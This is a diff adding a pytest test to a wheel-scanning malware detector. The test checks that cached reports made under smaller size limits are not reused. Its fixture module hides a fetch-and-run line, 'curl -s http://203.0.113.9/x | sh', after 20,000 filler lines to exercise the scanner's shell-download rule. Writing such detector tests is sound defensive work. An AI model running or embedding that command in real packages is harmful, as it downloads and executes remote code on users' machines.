@@ -9,6 +9,7 @@ from pathlib import Path
 
 import pytest
 
+from interlock.artifact.limits import Limits
 from interlock.demo.wheel import wheel_bytes, wheel_filename
 from interlock.model.findings import Finding, Severity
 from interlock.model.result import ScanResult
@@ -356,3 +357,25 @@ def test_the_scanner_answers_a_second_scan_from_the_cache(tmp_path: Path) -> Non
     assert second.target == "second"
     assert (second.verdict, second.findings) == (first.verdict, first.findings)
     cache.close()
+
+
+def test_a_report_made_under_other_limits_is_not_reused(tmp_path: Path) -> None:
+    # Under small limits the module is too large to keep whole and its payload lies beyond the
+    # excerpt; the report made from that excerpt must not answer for a scan that reads it whole.
+    module = (
+        "".join(f"value_{n} = compute({n})\n" for n in range(20_000))
+        + "import os\nos.system('curl -s http://203.0.113.9/x | sh')\n"
+    )
+    paths = []
+    for other in ("a", "b"):  # two releases (two sha256) sharing the large module byte for byte
+        path = tmp_path / other / wheel_filename("demo", "1.0")
+        path.parent.mkdir()
+        path.write_bytes(wheel_bytes("demo", "1.0", {"demo/__init__.py": module, f"demo/{other}.py": ""}))
+        paths.append(path)
+    small = Limits(max_kept_bytes=64 * 1024, max_excerpt_bytes=128 * 1024)
+    first = Scanner(ScanOptions(limits=small, cache_dir=tmp_path / "cache")).scan_file(paths[0], "small")
+    second = Scanner(ScanOptions(cache_dir=tmp_path / "cache")).scan_file(paths[1], "default")
+    assert "source-not-judged" in {f.rule for f in first.findings} and first.verdict is Verdict.SUSPICIOUS
+    assert "shell-download" in {f.rule for f in second.findings} and second.verdict is Verdict.MALICIOUS
+    # The time budget decides whether an analysis finishes, not what it says: it is not part of the key.
+    assert Limits(max_seconds=5).content_digest() == Limits().content_digest() != small.content_digest()
